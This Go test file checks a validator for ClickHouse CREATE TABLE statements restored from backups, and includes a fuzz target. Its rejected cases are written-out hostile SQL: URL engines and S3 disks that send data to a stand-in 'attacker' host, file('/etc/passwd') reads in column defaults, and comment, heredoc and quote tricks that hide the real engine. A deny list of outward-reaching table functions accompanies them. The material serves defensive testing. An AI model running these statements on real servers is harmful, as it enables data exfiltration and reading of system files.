package chbackup

import (
	"regexp"
	"strings"
	"testing"
)

func TestCheckCreate(t *testing.T) {
	t.Parallel()
	good := []string{
		"CREATE TABLE guardian.snapshots (`customer_id` String, `ts` DateTime, `payload` String) ENGINE = MergeTree PARTITION BY toDate(ts) ORDER BY (customer_id, ts) SETTINGS index_granularity = 8192",
		"CREATE TABLE guardian.t (`d` Date, `x` UInt64) ENGINE = MergeTree(d, (x), 8192)",
		"CREATE TABLE guardian.t (`x` Enum8('SELECT' = 1, 'AS' = 2), `y` String DEFAULT 'ENGINE = URL', `z` UInt8 ALIAS x) ENGINE = ReplacingMergeTree() ORDER BY x TTL toDateTime(x) + toIntervalDay(90)",
		"CREATE TABLE `guardian`.`select` (`as` String) ENGINE = MergeTree() ORDER BY tuple()",
		"CREATE TABLE guardian.t (`n\u00e4me` String DEFAULT 'caf\u00e9', `x` Float64 DEFAULT 1.5e-3, `disk` String, `h` UInt8 DEFAULT 0x1F) ENGINE = MergeTree ORDER BY x SETTINGS index_granularity = 8192",
		// Storage the server already has: a named policy, a named disk.
		"CREATE TABLE guardian.t (`x` UInt64) ENGINE = MergeTree ORDER BY x SETTINGS storage_policy = 'jbods_with_external', index_granularity = 8192",
		"CREATE TABLE guardian.t (`x` UInt64, disk String) ENGINE = MergeTree ORDER BY x TTL toDateTime(x) TO DISK 'cold' SETTINGS disk = 'hot'",
	}
	for _, s := range good {
		if err := checkCreate(s); err != nil {
			t.Errorf("refused %q: %v", s, err)
		}
	}
	bad := map[string]string{
		"another engine":            "CREATE TABLE guardian.zz (`p` String) ENGINE = URL('http://attacker/', TSV)",
		"as select":                 "CREATE TABLE guardian.zz ENGINE = URL('http://attacker/', TSV) AS SELECT payload FROM guardian.snapshots",
		"mergetree as select":       "CREATE TABLE guardian.zz ENGINE = MergeTree ORDER BY tuple() AS SELECT * FROM url('http://a/', TSV, 'x String')",
		"as another table":          "CREATE TABLE guardian.zz AS guardian.snapshots ENGINE = MergeTree ORDER BY tuple()",
		"subquery in a default":     "CREATE TABLE guardian.zz (`p` String DEFAULT (SELECT any(payload) FROM guardian.snapshots)) ENGINE = MergeTree ORDER BY tuple()",
		"a file read in a default":  "CREATE TABLE guardian.zz (`p` String DEFAULT file('/etc/passwd')) ENGINE = MergeTree ORDER BY p",
		"a quoted function name":    "CREATE TABLE guardian.zz (`p` String DEFAULT `file`('/etc/passwd')) ENGINE = MergeTree ORDER BY p",
		"a double-quoted name":      "CREATE TABLE guardian.zz (`p` String DEFAULT \"Fi\\le\" ('/etc/passwd')) ENGINE = MergeTree ORDER BY p",
		"a form feed before (":      "CREATE TABLE guardian.zz (`p` String DEFAULT file\f('/etc/passwd')) ENGINE = MergeTree ORDER BY p",
		"a vertical tab in a disk":  "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p SETTINGS disk = disk\v(type = s3)",
		"a quoted disk":             "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p SETTINGS disk = `disk`(type = s3, endpoint = 'http://attacker/b/')",
		"a dictionary read":         "CREATE TABLE guardian.zz (`p` String DEFAULT dictGetString('d', 'a', 1)) ENGINE = MergeTree ORDER BY p",
		"a cluster function":        "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY urlCluster(p)",
		"a table function in a key": "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY S3 (p)",
		"two engines":               "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p ENGINE = File(TSV)",
		"no engine":                 "CREATE TABLE guardian.zz (`p` String)",
		"distributed":               "CREATE TABLE guardian.zz (`p` String) ENGINE = Distributed(c, guardian, snapshots)",
		"a second statement":        "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p; SELECT 1",
		"a line comment":            "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p -- '\nENGINE = URL('http://a/', TSV)",
		"a block comment":           "CREATE TABLE guardian.zz (`p` String) /* ' */ ENGINE = MergeTree ORDER BY p",
		"an unclosed quote":         "CREATE TABLE guardian.zz (`p String) ENGINE = MergeTree ORDER BY p",
		"unbalanced parentheses":    "CREATE TABLE guardian.zz (`p` String)) ENGINE = MergeTree ORDER BY p",
		"an escaped quote hides":    `CREATE TABLE guardian.zz (` + "`p`" + ` String DEFAULT 'a\'') ENGINE = URL('http://a/', TSV) --'`,
		"engine in the column list": "CREATE TABLE guardian.zz (`p` String, ENGINE = MergeTree) ENGINE = URL('http://a/', TSV)",
		// In a heredoc ClickHouse reads a quote as text; read as a quote,
		// it would hide the real engine and show a made-up one.
		"a heredoc hides the engine": "CREATE TABLE guardian.zz (`p` String COMMENT $$'$$) ENGINE = URL('http://attacker/', TSV) COMMENT $$' ) ENGINE = MergeTree ORDER BY p $$",
		"a tagged heredoc":           "CREATE TABLE guardian.zz (`p` String COMMENT $x$'$x$) ENGINE = URL('http://attacker/', TSV) COMMENT $x$' ) ENGINE = MergeTree ORDER BY p $x$",
		// The same with ClickHouse's // comments and its typographic
		// quotes, in which an ASCII quote is text too.
		"a // comment hides the engine":  "CREATE TABLE guardian.zz (`p` String) // '\nENGINE = URL('http://attacker/', TSV) // ' ENGINE = MergeTree ORDER BY p",
		"typographic quotes":             "CREATE TABLE guardian.zz (`p` String COMMENT \u2018'\u2019) ENGINE = URL('http://attacker/', TSV) COMMENT \u2018' ) ENGINE = MergeTree ORDER BY p \u2019",
		"a typographic identifier":       "CREATE TABLE guardian.zz (\u201c'\u201d String) ENGINE = URL('http://attacker/', TSV) COMMENT \u2018' ) ENGINE = MergeTree ORDER BY p \u2019",
		"a number hides a word":          "CREATE TABLE guardian.zz (`p` UInt8 DEFAULT 1.5.SELECT) ENGINE = MergeTree ORDER BY p",
		"a disk of its own":              "CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p SETTINGS disk = disk(type = s3, endpoint = 'http://attacker/b/', access_key_id = 'a', secret_access_key = 'b')",
		"an exponent hides a word":       "CREATE TABLE guardian.zz (`p` UInt8 DEFAULT 1e5.SELECT) ENGINE = MergeTree ORDER BY p",
		"a signed exponent hides a word": "CREATE TABLE guardian.zz (`p` UInt8 DEFAULT 1e+5.SELECT) ENGINE = MergeTree ORDER BY p",
		"a digit-led word hides a word":  "CREATE TABLE guardian.zz (`p` UInt8 DEFAULT 1_.SELECT) ENGINE = MergeTree ORDER BY p",
	}
	for name, s := range bad {
		if err := checkCreate(s); err == nil {
			t.Errorf("%s: accepted %q", name, s)
		} else if strings.Contains(err.Error(), "attacker") {
			t.Errorf("%s: the error quotes the statement: %v", name, err)
		}
	}
}

func FuzzCheckCreate(f *testing.F) {
	f.Add("CREATE TABLE guardian.t (`x` UInt64) ENGINE = MergeTree ORDER BY x")
	f.Add("CREATE TABLE guardian.zz ENGINE = URL('http://a/', TSV) AS SELECT 1")
	f.Add("CREATE TABLE guardian.zz (`p` String COMMENT $$'$$) ENGINE = URL('http://a/', TSV) COMMENT $$' ) ENGINE = MergeTree ORDER BY p $$")
	f.Add("CREATE TABLE guardian.zz (`p` String) // '\nENGINE = URL('http://a/', TSV) // ' ENGINE = MergeTree ORDER BY p")
	f.Add("CREATE TABLE guardian.zz (`p` String COMMENT \u2018'\u2019) ENGINE = URL('http://a/', TSV) COMMENT \u2018' ) ENGINE = MergeTree ORDER BY p \u2019")
	f.Add("CREATE TABLE guardian.t (`x` String DEFAULT 'a''b\\'c') ENGINE = ReplacingMergeTree ORDER BY x SETTINGS storage_policy = 'p'")
	f.Add("CREATE TABLE guardian.zz (`p` String) ENGINE = URL('http://a/', TSV)")
	f.Add("CREATE TABLE guardian.zz (`x` String DEFAULT file('a')) ENGINE = MergeTree ORDER BY x")
	f.Add("000000Merge()0ENGINE MergeTree")
	f.Add("CREATE TABLE guardian.zz (`p` String) ENGINE = MergeTree ORDER BY p SETTINGS disk = \"disk\"(type = s3)")
	f.Fuzz(func(t *testing.T, s string) {
		if checkCreate(s) != nil {
			return
		}
		// Whatever passes is read again here another way: quoted spans
		// cut out by a regular expression (a backslash escapes a byte, a
		// doubled quote is one) and replaced by a mark that is neither a
		// word nor a space (a word, then a quoted name, then '(' calls the
		// quoted name, not the word), then the words of what is left. Nothing
		// may be left that ClickHouse would read as code: no quote, byte
		// outside ASCII, comment, heredoc or second statement; no query;
		// no AS at the top level; no table function or engine that
		// reaches outside (url, file, remote, s3...), no disk of its own.
		out := []byte(quotedSpan.ReplaceAllStringFunc(s, func(q string) string { return strings.Repeat("~", len(q)) }))
		for i, c := range out {
			if c == '\'' || c == '"' || c == '`' || c == ';' || c == '#' || c == '$' || c >= 0x80 ||
				c < 0x20 && c != '\t' && c != '\n' && c != '\r' || c == 0x7f {
				t.Fatalf("accepted %q with %q outside quotes at %d", s, c, i)
			}
		}
		// A quoted name is a function's too when a '(' follows it (names
		// with escapes in them are left to the table test).
		for _, m := range quotedSpan.FindAllStringIndex(s, -1) {
			q, inner := s[m[0]], strings.ToLower(s[m[0]+1:m[1]-1])
			if q != '\'' && !strings.ContainsAny(inner, "\\`\"") && outside[inner] && strings.HasPrefix(strings.TrimLeft(s[m[1]:], " \t\r\n"), "(") {
				t.Fatalf("accepted %q calling %s(", s, inner)
			}
		}
		rest := string(out)
		for _, c := range []string{"--", "//", "/*"} {
			if strings.Contains(rest, c) {
				t.Fatalf("accepted %q with a comment (%s) outside quotes", s, c)
			}
		}
		for _, m := range bareWord.FindAllStringIndex(rest, -1) {
			w := strings.ToLower(rest[m[0]:m[1]])
			depth := strings.Count(rest[:m[0]], "(") - strings.Count(rest[:m[0]], ")")
			call := strings.HasPrefix(strings.TrimLeft(rest[m[1]:], " \t\r\n"), "(")
			switch {
			case w == "select", w == "as" && depth == 0:
				t.Fatalf("accepted %q with %s", s, w)
			case call && outside[w]:
				t.Fatalf("accepted %q calling %s(", s, w)
			}
		}
	})
}

// quotedSpan is a quoted string or identifier as ClickHouse reads one; the
// fuzz target's reading, apart from the code's.
var quotedSpan = regexp.MustCompile(`(?s)'(?:[^'\\]|\\.|'')*'|"(?:[^"\\]|\\.|"")*"|` + "`(?:[^`\\\\]|\\\\.|``)*`")

// bareWord is a word outside quotes.
var bareWord = regexp.MustCompile(`[A-Za-z_][A-Za-z0-9_]*`)

// outside are the table functions and engines that read or write outside
// the server, and a disk a statement defines itself, written out here
// apart from the code's list.
var outside = map[string]bool{"url": true, "file": true, "remote": true, "remotesecure": true, "cluster": true, "s3": true, "s3cluster": true,
	"hdfs": true, "mysql": true, "postgresql": true, "jdbc": true, "odbc": true, "mongodb": true, "redis": true, "azureblobstorage": true,
	"kafka": true, "rabbitmq": true, "nats": true, "input": true, "executable": true, "dictionary": true, "disk": true, "merge": true, "distributed": true}
